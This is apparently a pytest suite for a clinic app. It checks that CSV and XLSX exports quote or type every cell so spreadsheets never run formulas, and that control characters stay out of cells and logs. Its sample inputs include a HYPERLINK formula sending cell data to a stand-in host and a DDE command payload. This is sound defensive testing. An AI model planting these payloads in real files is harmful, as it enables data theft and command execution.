"""Spreadsheet-safe exports (docs/security.md): no cell of any export, CSV or XLSX, from the command
line or the web, can be taken by a spreadsheet as a formula, and a name with control characters
stored by an older version (inserted here straight into the database, past the checks) exports
whole and never reaches a log.

The dangerous text sits where people's words sit in the exports: names, client ids, the audit
log's labels. Each file is read back as a spreadsheet would read it: the CSV with csv.reader, the
XLSX with openpyxl, whose cell types are checked (a formula would have type "f").
"""
from __future__ import annotations

import csv
import io
import logging
import os
import unicodedata
from datetime import date, datetime, time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update

from helpers.world import local
from iop.clinic import audit
from iop.files import exports
from iop.store import db
from iop.store.models import Authorization, Client

DAY = date(2026, 3, 2)
RANGE = ("2026-03-01", "2026-03-08")
# Text a spreadsheet would run, or read as a number or an error, were it written as it is.
DANGEROUS = [
    '=HYPERLINK("http://e.example/?"&A1,"Go")',  # fits a client id (40)
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # after spaces
    "\uff1d1+1",  # a full-width equals sign
    "-5",  # looks like a negative number: stays the text it is
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
# A name stored before the checks: NUL, an escape sequence, BEL, a right-to-left override, an isolate.
# PostgreSQL cannot hold NUL in text at all (no older database there has one): SOH stands in for it.
ON_POSTGRES = os.environ.get("IOP_TEST_DATABASE", "").strip().lower() == "postgres"
NUL = "\x01" if ON_POSTGRES else "\x00"
CONTROL_FIRST, CONTROL_LAST = f"Ro{NUL}sa\x1b[31m\x07", "\u202eZyxq\u2066Vane"
LOG_MARKERS = ("Zyxq", "Vane", "Rosa", f"Ro{NUL}sa")


def as_printed(text: str) -> str:
    """What a cell holds for `text`: every control (but tab and line feed), bidi control and character
    XML cannot hold, replaced by U+FFFD (worked out apart from iop.files.cells)."""
    def shown(ch):
        code = ord(ch)
        if (unicodedata.category(ch) == "Cc" and ch not in "\t\n") or ch in BIDI or ch in "\ufffe\uffff" \
                or 0xD800 <= code <= 0xDFFF:
            return "\ufffd"
        return ch
    return "".join(shown(ch) for ch in text)


def starts_like_a_formula(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_START)


def assert_csv_is_safe(content: str, kind: str | None = None) -> list[list[str]]:
    """Every cell of the CSV: none a spreadsheet would take for a formula; number columns are numbers."""
    rows = list(csv.reader(io.StringIO(content)))
    for row in rows:
        for value in row:
            assert not starts_like_a_formula(value), (value, row)
    if kind:
        numbers = [i for i, column in enumerate(exports.COLUMNS[kind]) if column.kind in ("int", "hours")]
        for row in rows[1:]:
            for index in numbers:
                float(row[index])  # a number, never quoted
    return rows


def assert_xlsx_is_safe(data: bytes, kind: str) -> list[list]:
    """Every cell of the workbook: text is a string cell (never a formula or an error value), numbers
    are numbers and dates are dates."""
    sheet = load_workbook(io.BytesIO(data)).active
    kinds = [column.kind for column in exports.COLUMNS[kind]]
    values = []
    for number, row in enumerate(sheet.iter_rows(), 1):
        for cell, column_kind in zip(row, kinds, strict=True):
            assert cell.data_type != "f" and cell.data_type != "e", (cell.value, cell.data_type)
            if number > 1 and cell.value is not None:
                expected = {"int": "n", "hours": "n", "date": "d", "time": "d"}.get(column_kind, "s")
                assert cell.data_type == expected, (column_kind, cell.value, cell.data_type)
        values.append([cell.value for cell in row])
    return values


@pytest.fixture
def clinic(app, world, freeze):
    """RP-AM with one client per dangerous text (as the first name, and as the client id of a second
    set), each present on 2 March 2026; and a client whose stored name has control characters."""
    freeze(local(date(2026, 4, 1), 12))
    group = world.group(code="RP-AM", start=time(9), end=time(12))
    session = world.session(group, DAY)
    people = []
    for number, text in enumerate(DANGEROUS):
        people.append(world.client(f"N{number:02}", text, "Lopez", groups=[group], plan_start=date(2026, 2, 2)))
        people.append(world.client(text, "Ana", "Ruiz", groups=[group], plan_start=date(2026, 2, 2)))
    people.append(world.client("CTRL1", CONTROL_FIRST, CONTROL_LAST, groups=[group], plan_start=date(2026, 2, 2)))
    for person in people:
        world.attendance(person, session, local(DAY, 9), local(DAY, 12))
    with app.app_context(), db.transaction() as s:  # the utilization export: payer and number are typed text too
        for number, person in enumerate(people):
            text = DANGEROUS[number // 2 % len(DANGEROUS)]
            s.add(Authorization(client_key=person.id, payer=text, number=text[:20] or "A", service="H0015", unit="day",
                                units=10, start_date=date(2026, 3, 1), end_date=date(2026, 3, 31)))
    return people


def cli_export(runner, kind, *options):
    when = ["--on", RANGE[1]] if kind == "utilization" else ["--from", RANGE[0], "--to", RANGE[1]]
    return runner.invoke(args=["export", kind, *when, *options])


def web_export(client, auth, kind, fmt):
    token = auth.csrf("/coordinator/exports")
    when = {"on": RANGE[1]} if kind == "utilization" else {"first": RANGE[0], "last": RANGE[1]}
    response = client.post(f"/coordinator/exports/{kind}", data={**when, "format": fmt, "csrf_token": token})
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response.get_data()


def expected_names() -> set[str]:
    """The names as a cell holds them (the export writes "first last", trimmed)."""
    return {as_printed(f"{text} Lopez".strip()) for text in DANGEROUS} | {"Ana Ruiz"} | {
        as_printed(f"{CONTROL_FIRST} {CONTROL_LAST}")}


def in_csv(text: str) -> str:
    """What a CSV cell holds for `text`: printable, behind a quote when a spreadsheet would run it as
    stored (a leading carriage return too, though it is then replaced)."""
    return "'" + as_printed(text) if starts_like_a_formula(text) else as_printed(text)


@pytest.mark.parametrize("kind", exports.KINDS)
def test_cli_csv_quotes_every_dangerous_text_and_keeps_numbers(clinic, runner, tmp_path, kind):
    result = cli_export(runner, kind)
    assert result.exit_code == 0, result.output
    rows = assert_csv_is_safe(result.stdout, kind)
    header = rows[0]
    names = {row[header.index("client_name")] for row in rows[1:]}
    ids = {row[header.index("client_id")] for row in rows[1:]}
    assert names == ({in_csv(f"{text} Lopez".strip()) for text in DANGEROUS}
                     | {"Ana Ruiz", in_csv(f"{CONTROL_FIRST} {CONTROL_LAST}")})
    assert ids == {in_csv(text) for text in DANGEROUS} | {f"N{n:02}" for n in range(len(DANGEROUS))} | {"CTRL1"}
    # the text is all there, behind one quote that tells the spreadsheet it is text
    assert {"'=cmd|' /C calc'!A0 Lopez", "'-2+3 Lopez", "'@SUM(1,1)", "'\t=1+1", "' =1+1", "'-5",
            "'\ufffd=1+1"} <= names | ids  # the last: a client id that began with a carriage return
    # the same through -o FILE
    target = tmp_path / f"{kind}.csv"
    assert cli_export(runner, kind, "-o", str(target)).exit_code == 0
    assert target.read_text(encoding="utf-8") == result.stdout


@pytest.mark.parametrize("kind", exports.KINDS)
def test_cli_xlsx_text_is_never_a_formula(clinic, runner, tmp_path, kind, caplog):
    target = tmp_path / f"{kind}.xlsx"
    with caplog.at_level(logging.DEBUG):
        result = cli_export(runner, kind, "--format", "xlsx", "-o", str(target))
    assert result.exit_code == 0, result.output
    values = assert_xlsx_is_safe(target.read_bytes(), kind)
    header = values[0]
    names = {row[header.index("client_name")] for row in values[1:]}
    ids = {row[header.index("client_id")] for row in values[1:]}
    assert expected_names() <= names  # as they are, no quote added: the cell type says "text"
    # as stored, no quote; "-5" the client id is text, not the number -5
    assert {as_printed(text) for text in DANGEROUS} <= ids and "-5" in ids
    for marker in LOG_MARKERS:
        assert marker not in caplog.text and marker not in result.output


@pytest.mark.parametrize("kind", exports.KINDS)
def test_web_downloads_are_safe_in_both_formats(clinic, client, auth, kind, caplog):
    auth.login(username="coordinator", role="coordinator")
    with caplog.at_level(logging.DEBUG):
        as_csv = web_export(client, auth, kind, "csv").decode("utf-8")
        as_xlsx = web_export(client, auth, kind, "xlsx")
    rows = assert_csv_is_safe(as_csv, kind)
    values = assert_xlsx_is_safe(as_xlsx, kind)
    assert len(rows) == len(values) > len(DANGEROUS) * 2 + 1  # hours: each week the range touches
    names = {row[exports.header(kind).index("client_name")] for row in values[1:]}
    assert expected_names() <= names
    for marker in LOG_MARKERS:
        assert marker not in caplog.text


def test_a_stored_name_with_control_characters_exports_on_web_and_cli(app, world, freeze, runner, client, auth,
                                                                    tmp_path, caplog):
    # Only this client: nothing else could make the export fail or succeed.
    freeze(local(date(2026, 4, 1), 12))
    group = world.group(code="RP-AM", start=time(9), end=time(12))
    rosa = world.client("C1", "Rosa", "Vane", groups=[group], plan_start=date(2026, 2, 2))
    world.attendance(rosa, world.session(group, DAY), local(DAY, 9), local(DAY, 12))
    with app.app_context(), db.transaction() as s:  # as an older version could have stored it
        s.execute(update(Client).where(Client.id == rosa.id).values(first_name=CONTROL_FIRST, last_name=CONTROL_LAST))
        s.add(Authorization(client_key=rosa.id, payer="Aetna", number="A-1", service="H0015", unit="day", units=10,
                            start_date=date(2026, 3, 1), end_date=date(2026, 3, 31)))
    auth.login(username="coordinator", role="coordinator")
    shown = as_printed(f"{CONTROL_FIRST} {CONTROL_LAST}")
    with caplog.at_level(logging.DEBUG):
        for kind in exports.KINDS:
            target = tmp_path / f"{kind}.xlsx"
            result = cli_export(runner, kind, "--format", "xlsx", "-o", str(target))
            assert result.exit_code == 0 and "Traceback" not in result.output, result.output
            for data in (target.read_bytes(), web_export(client, auth, kind, "xlsx")):
                rows = assert_xlsx_is_safe(data, kind)[1:]
                assert rows and {row[exports.header(kind).index("client_name")] for row in rows} == {shown}
                assert shown == "Ro\ufffdsa\ufffd[31m\ufffd \ufffdZyxq\ufffdVane"
            cli_csv = cli_export(runner, kind)
            for text in (cli_csv.stdout, web_export(client, auth, kind, "csv").decode()):
                rows = assert_csv_is_safe(text, kind)[1:]
                assert rows and {row[exports.header(kind).index("client_name")] for row in rows} == {shown}
                assert "\x1b" not in text and NUL not in text  # nothing reaches a terminal as a command
            for marker in LOG_MARKERS:
                assert marker not in result.output and marker not in cli_csv.stderr
    for marker in LOG_MARKERS:
        assert marker not in caplog.text


def test_the_audit_csv_is_spreadsheet_safe(clinic, app, client, auth):
    auth.login(username="admin", role="admin")
    with app.app_context(), db.transaction():
        for person in clinic:  # a client record viewed: the audit log's label names the client
            audit.record("client.view", target=f"client:{person.public_id}")
    response = client.get("/coordinator/audit.csv")
    assert response.status_code == 200
    rows = assert_csv_is_safe(response.get_data(as_text=True))
    about = {row[exports.AUDIT_HEADER.index("about")] for row in rows[1:]}
    for number, text in enumerate(DANGEROUS):
        assert in_csv(f"{text} Lopez (N{number:02})") in about
        assert f"Ana Ruiz ({as_printed(text)})" in about
    assert f"{as_printed(CONTROL_FIRST)} {as_printed(CONTROL_LAST)} (CTRL1)" in about


TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)
PREFIX = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", " =", "  -", "\uff1d", "\uff20", "'", "\x00",
                          "\u202e", "#N/A"])


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(first=st.tuples(PREFIX, TEXT).map("".join).filter(lambda s: s.strip()), number=st.integers(-10**6, 10**6))
def test_any_stored_name_comes_out_as_text_in_both_formats(clinic, app, runner, tmp_path, first, number):
    """Whatever a name holds, the CSV cell reads back as the name (control characters replaced) behind
    at most one quote, never a formula; the XLSX cell is a string cell holding exactly that name."""
    from iop.files import cells

    first = first.replace("\x00", NUL)
    with app.app_context(), db.transaction() as s:
        s.execute(update(Client).where(Client.client_id == "N00").values(first_name=first, last_name="Lopez"))
    stored = f"{first} Lopez".strip()
    name = as_printed(stored)
    rows = assert_csv_is_safe(cli_export(runner, "attendance").stdout, "attendance")
    [cell] = [row[2] for row in rows[1:] if row[1] == "N00"]
    assert cell == ("'" + name if starts_like_a_formula(stored) else name)
    target = tmp_path / "attendance.xlsx"
    assert cli_export(runner, "attendance", "--format", "xlsx", "-o", str(target)).exit_code == 0
    values = assert_xlsx_is_safe(target.read_bytes(), "attendance")
    assert [row[2] for row in values[1:] if row[1] == "N00"] == [name]
    # a number, even negative, stays a number in both
    out = io.StringIO()
    cells.CsvWriter(out).writerow([number, float(number) / 7, datetime(2026, 3, 2, 9), date(2026, 3, 2)])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == str(number)


def test_every_export_writes_its_cells_through_the_one_rule():
    """A later export gets the rule by writing through the shared writers: no other module of the
    program makes a CSV writer or a workbook of its own."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    makers = {"csv.writer(": "iop/files/cells.py", "csv.DictWriter(": None, "Workbook(": "iop/files/exports.py"}
    for package in ("iop", "coordinator", "facilitator", "kiosk", "curriculum"):
        for path in (root / package).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            for maker, home in makers.items():
                if maker in source:
                    assert path.relative_to(root).as_posix() == home, f"{path}: {maker} outside {home}"


def test_what_entry_refuses_a_cell_never_holds():
    """The characters iop.rules.entry refuses in typed text are the ones a cell replaces (tab and line
    feed, which a cell keeps, aside)."""
    import re

    from iop.files import cells
    from iop.rules import entry

    for code in list(range(0x3000)) + [0x202A, 0x202E, 0x2066, 0x2069, 0xFEFF, 0xFFFE, 0xFFFF]:
        ch = chr(code)
        refused = bool(entry.UNPRINTABLE_IN_LINES.match(ch))
        assert (cells.printable(ch) == "\ufffd") == (refused or code in (0xFFFE, 0xFFFF)), hex(code)
    assert re.fullmatch(r"[^\ufffd]*", cells.printable("Ana\tLopez\nline two"))


@pytest.mark.parametrize("value, shown", [(-5, "-5"), (-2.5, "-2.5"), (0, "0"), ("#N/A", "#N/A")])
def test_numbers_stay_numbers_in_both_formats(value, shown):
    from openpyxl import Workbook

    from iop.files import cells

    out = io.StringIO()
    cells.CsvWriter(out).writerow([value])
    assert out.getvalue() == f"{shown}\n"
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append([cells.xlsx_value(sheet, value)])
    data = io.BytesIO()
    book.save(data)
    [[cell]] = list(load_workbook(data).active.iter_rows())
    assert cell.value == value and cell.data_type == ("s" if isinstance(value, str) else "n")
